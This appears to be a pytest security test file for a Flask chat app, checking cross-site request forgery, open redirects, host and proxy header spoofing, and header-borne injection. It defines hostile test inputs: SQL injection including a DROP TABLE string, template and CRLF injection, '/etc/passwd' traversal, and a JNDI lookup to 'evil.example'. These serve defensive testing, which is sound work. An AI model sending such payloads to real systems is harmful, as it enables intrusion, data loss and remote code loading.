"""What a browser can be made to do in somebody's name, and what a request's own words can change: nothing."""

import json
import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from uuid_utils.compat import uuid7

from chatapp.logs import JSONFormatter
from chatapp.store.tables import metadata
from chatapp.web.access import need_of
from tests.applications import make_app
from tests.people import database_of, join
from tests.web.raw import exchange, problem_in, request_bytes

EVIL = "evil.example"
FOREIGN = {
    "cross-site": {"Sec-Fetch-Site": "cross-site", "Origin": f"https://{EVIL}"},
    "other-name-below": {"Sec-Fetch-Site": "same-site", "Origin": "http://app.localhost"},
    "old-browser": {"Origin": f"https://{EVIL}"},
    "no-origin-told": {"Origin": "null"},
    "other-port": {"Origin": "http://localhost:8080"},
    "longer-name": {"Origin": f"http://localhost.{EVIL}"},
    "own-name-as-user": {"Origin": f"http://localhost@{EVIL}"},
    "unknown-word": {"Sec-Fetch-Site": "same-origin, cross-site"},
}
# What reading may note: when somebody was there last, and how a text looks when it is shown.
NOTED = {"last_seen_at", "last_used_at", "html", "html_version"}
# Text that some interpreter on its way could take for its own.
META = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\\'; SELECT pg_sleep(9); --",
    "{{7*191}}${7*191}<%=7*191%>#{7*191}",
    "%0d%0aSet-Cookie: a=b",
    "\x1b[2J\x1b]0;x\x07",
    "<script>alert(1)</script>\"'>",
    "%s%n%x{0.__class__}",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "é\u2028\u202e\x85",
)
READ_HEADERS = (
    "Authorization", "X-API-Key", "Cookie", "User-Agent", "X-Request-Id", "Idempotency-Key", "Last-Event-ID", "Accept",
    "X-Provider-Key", "Origin", "Sec-Fetch-Site", "Referer", "If-None-Match", "X-Forwarded-For", "Accept-Encoding",
)  # fmt: skip


@pytest.fixture(scope="module")
def own_app() -> Flask:
    """An application that others did not fill."""
    return make_app(demo_pace_ms=0)


@pytest.fixture(scope="module")
def admin(own_app: Flask) -> FlaskClient:
    """Somebody who may do everything and has just signed in."""
    return join(own_app, "ada@example.com")


@pytest.fixture(scope="module")
def ids(own_app: Flask, admin: FlaskClient) -> dict[str, str]:
    """By a path parameter's name, something of the administrator's that is there; what is missing exists nowhere."""
    asked = admin.post("/chat", json={"conversation_id": "new", "message": "Hi"})
    assert asked.status_code == 200, asked.text
    fact = admin.post("/memory", json={"text": "I row."}).json["id"]
    [conversation] = admin.get("/conversations").json["conversations"]
    return {
        "conversation_id": conversation["id"],
        "message_id": conversation["head_id"],
        "run_id": conversation["head_id"],
        "fact_id": fact,
        "session_id": admin.get("/account/sessions").json["sessions"][0]["id"],
        "user_id": admin.get("/account").json["id"],
        "version": "x",
        "path": "css/base.css",
    }


def routes(app: Flask, *, changing: bool) -> list[tuple[str, str, str]]:
    """Method, rule and endpoint of every route that changes something, or of all others."""
    found = [
        (method, rule.rule, rule.endpoint)
        for rule in app.url_map.iter_rules()
        for method in (rule.methods or set()) - {"OPTIONS"}
    ]
    return sorted(each for each in found if (each[0] not in ("GET", "HEAD")) == changing)


def filled(rule: str, ids: dict[str, str]) -> str:
    return re.sub(r"<(?:\w+:)?(\w+)>", lambda name: ids.get(name[1], str(uuid7())), rule)


def stored_in(app: Flask) -> dict[str, list[dict[str, Any]]]:
    """Everything in the database, but what reading may note."""
    database = database_of(app)
    with database.read() as connection:
        found = {
            table.name: sorted(
                ({name: value for name, value in row._mapping.items() if name not in NOTED}
                 for row in connection.execute(table.select())),
                key=str,
            )
            for table in metadata.sorted_tables
        }  # fmt: skip
    database.close()
    return found


# In whose name a browser asks.


def test_reading_changes_nothing(own_app: Flask, admin: FlaskClient, ids: dict[str, str]) -> None:
    """An image in an answer is enough to make a browser ask for any address, with all its cookies."""
    before = stored_in(own_app)
    reading = routes(own_app, changing=False)

    for method, rule, _ in reading:
        for query in ("", "?q=hi&code=x&state=y&everywhere=true&next=/chat&said=signed_out"):
            answered = admin.open(filled(rule, ids) + query, method=method)
            assert answered.status_code < 500, (method, rule, answered.text)
            # What a shared cache may keep must not hand on anybody's cookie.
            assert "Set-Cookie" not in answered.headers or answered.headers["Cache-Control"] == "no-store", rule
    after = stored_in(own_app)

    assert len(reading) > 50
    # That somebody fetched all their data is written down.
    assert {**before, "audit_events": None} == {**after, "audit_events": None}
    assert admin.get("/account").status_code == 200


@pytest.mark.parametrize("headers", FOREIGN.values(), ids=FOREIGN)
def test_no_other_site_changes_anything(
    own_app: Flask, admin: FlaskClient, ids: dict[str, str], headers: dict[str, str]
) -> None:
    """By the routes themselves: with a cookie none of them listens to another site's page."""
    before = stored_in(own_app)
    changing = routes(own_app, changing=True)

    for method, rule, _ in changing:
        answered = admin.open(filled(rule, ids), method=method, json={}, headers=headers)
        assert (answered.status_code, method, rule) == (403, method, rule)

    assert len(changing) > 40
    assert stored_in(own_app) == before


def test_nobody_is_signed_in_by_another_site(own_app: Flask) -> None:
    """Who does not notice that they write under somebody else's account tells that one everything."""
    stranger = own_app.test_client()
    own = [each for each in routes(own_app, changing=True) if not each[2].startswith("api.")]

    for method, rule, _ in own:
        for content_type in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
            answered = stranger.open(
                filled(rule, {}), method=method, data="{}", content_type=content_type, headers=FOREIGN["old-browser"]
            )
            assert (answered.status_code, method, rule) == (403, method, rule)
    assert len(own) > 25


def test_a_page_of_this_site_is_known_by_its_origin(own_app: Flask) -> None:
    """Also where TLS ends in front of the server; with a configured address no plain page of the same name passes."""
    secure = make_app(base_url="https://chat.example.com").test_client()
    plain = join(own_app, "cleo@example.com")

    def status(headers: dict[str, str]) -> int:
        return plain.patch("/account", json={"theme": "dark"}, headers=headers).status_code

    def status_on_tls(origin: str) -> int:
        tried = {"email": "ben@example.com", "password": "not the one of Ben"}
        at = "https://chat.example.com"
        return secure.post("/auth/sign-in", json=tried, headers={"Origin": origin}, base_url=at).status_code

    assert status({"Origin": "http://localhost"}) == 200
    assert status({"Origin": "https://localhost"}) == 200
    assert status({"Sec-Fetch-Site": "same-origin", "Origin": "null"}) == 200
    assert status({"Sec-Fetch-Site": "none"}) == 200
    assert status({}) == 200
    assert status_on_tls("https://chat.example.com") == 401
    assert status_on_tls("http://chat.example.com") == 403
    assert status_on_tls("https://chat.example.com:444") == 403


# What else a request says of itself.


def spellings(path: str) -> list[str]:
    """Other ways to write an address, as a proxy in front might not know them for the same."""
    head, _, tail = path.rpartition("/")
    return [
        path.upper(), path + "/", path + "//", "/" + path, path + ".", path + ";x", path + ";.css", path + "/.",
        path + "/..", path + "%2f", path + "\\", path + "\x00", path + " ", path + ".json",
        f"{head}/./{tail}", f"{head}//{tail}", f"/static/../{path[1:]}", f"/;x{path}", f"/x/..{path}", f"/%2e{path}",
        path.replace("a", "%61", 1), path.replace("e", "\uff45", 1), "\\" + path[1:],
    ]  # fmt: skip


def test_an_address_written_otherwise_leads_nowhere() -> None:
    """Who guards a route by its address, here or in a proxy, guards one spelling only."""
    app = make_app(access="signin")
    client = app.test_client()
    guarded = [
        (method, rule)
        for method, rule, endpoint in routes(app, changing=False) + routes(app, changing=True)
        if need_of(app.view_functions[endpoint]) != "public" and method != "HEAD"
    ]
    known = {filled(rule.rule, {}) for rule in app.url_map.iter_rules() if not rule.arguments}

    for method, rule in guarded:
        path = filled(rule, {"version": "x", "path": "x"})
        for spelling in [path, *(each for each in spellings(path) if each not in known)]:
            as_sent = spelling.encode().decode("latin-1")
            answered = client.open("/", method=method, environ_overrides={"PATH_INFO": as_sent}, json={})
            assert answered.status_code in (401, 404, 405), (method, spelling, answered.status_code)
            assert "Location" not in answered.headers
    assert len(guarded) > 40


@pytest.mark.parametrize(
    "target",
    [b"//evil.example/chat", b"/chat/..//evil.example", b"/\\evil.example", b"http://evil.example//chat", b"//chat"],
)
def test_no_odd_address_is_led_to_another_site(site: str, target: bytes) -> None:
    """Frameworks mend doubled slashes by sending the browser on, and then it is elsewhere."""
    status, headers, body = exchange(site, request_bytes(b"GET", target, b"Accept: */*"))

    assert status in (400, 404)
    assert headers["Location"] is None
    problem_in(headers, body)


SPOOFED = {
    "X-Forwarded-Host": EVIL,
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Port": "444",
    "X-Forwarded-Prefix": f"//{EVIL}",
    "X-Forwarded-Server": EVIL,
    "X-Forwarded-For": "203.0.113.9",
    "Forwarded": f"for=203.0.113.9;host={EVIL};proto=https",
    "X-Host": EVIL,
    "X-Original-Host": EVIL,
    "X-Original-URL": "/admin",
    "X-Rewrite-URL": "/admin",
    "X-HTTP-Method-Override": "DELETE",
    "X-Forwarded-User": "ada@example.com",
    "X-Remote-User": "ada@example.com",
    "X-User-Id": "1",
}


@pytest.mark.parametrize("base_url", ["", "https://chat.example.com"], ids=["unnamed", "named"])
def test_what_a_proxy_might_say_is_not_believed(base_url: str) -> None:
    """Links, redirects, the description of the API: whoever asks could write all of these headers."""
    client = make_app(base_url=base_url, access="signin").test_client()
    pages = ("/", "/chat", "/service", "/api/docs", "/signin?next=/settings", "/settings", "/api/openapi.json", "/api",
             "/.well-known/security.txt", "/no-such-page", "/models")  # fmt: skip

    for path in pages:
        for accept in ("text/html", "*/*"):
            plain = client.get(path, headers={"Accept": accept})
            spoofed = client.get(path, headers={"Accept": accept, **SPOOFED})
            assert spoofed.status_code == plain.status_code, path
            assert EVIL not in spoofed.text + str(spoofed.headers), path
            assert spoofed.headers.get("Location") == plain.headers.get("Location")
    described = client.get("/api/openapi.json", headers=SPOOFED).json
    assert described["servers"] == [{"url": base_url or "http://localhost"}]


@pytest.mark.parametrize("host", [EVIL, f"localhost.{EVIL}", f"localhost@{EVIL}", f"localhost, {EVIL}", "localhost."])
def test_another_host_is_not_answered(client: FlaskClient, host: str) -> None:
    """A name that an attacker's DNS points here must not become this site's origin."""
    answered = client.get("/chat", headers={"Host": host})

    assert answered.status_code in (400, 421)
    assert EVIL not in answered.text


@pytest.mark.parametrize(
    "following",
    [f"https://{EVIL}", f"//{EVIL}", f"/\\{EVIL}", f"\\\\{EVIL}", f"/\t/{EVIL}", "javascript:alert(1)", f"http:{EVIL}",
     f"/%09/{EVIL}\r\nX: y", f"@{EVIL}", f" //{EVIL}"],
)  # fmt: skip
def test_signing_in_leads_to_this_site_only(own_app: Flask, admin: FlaskClient, following: str) -> None:
    """A link to the real sign-in page that ends on a false one is what phishing dreams of."""
    shown = admin.get("/signin", query_string={"next": following})

    assert shown.status_code == 303
    assert re.match(r"/(?![/\\])[!-~]*\Z", shown.headers["Location"]), shown.headers["Location"]


@pytest.mark.parametrize("text", META)
def test_no_header_reaches_an_interpreter(own_app: Flask, text: str, caplog: pytest.LogCaptureFixture) -> None:
    """SQL, templates, terminals, logs: what comes in a header is never more than text."""
    client = own_app.test_client()
    raw = text.encode().decode("latin-1")
    named = {"Cookie": f"chatapp_session={raw}; chatapp_guest={raw}; chatapp_sign_in={raw}"}

    for name in READ_HEADERS:
        # Not through the client's own checks: a server sees what comes.
        key = "HTTP_" + name.upper().replace("-", "_")
        value = named.get(name, f"Bearer {raw}" if name == "Authorization" else raw)
        for method, path in (("GET", "/account"), ("POST", "/tokens")):
            answered = client.open(path, method=method, json={"message": "Hi"} if method == "POST" else None,
                                   environ_overrides={key: value})  # fmt: skip
            assert answered.status_code < 500, (name, method, path, answered.text)
            assert "1337" not in answered.text
            assert text not in answered.text
            assert all(text not in each for each in answered.headers.values())
    lines = [JSONFormatter().format(record) for record in caplog.records]

    assert len(lines) >= len(READ_HEADERS) * 2
    assert all(isinstance(json.loads(line), dict) for line in lines)
    assert not any(char in line for line in lines for char in "\n\r\x1b\x07\x85\u2028")
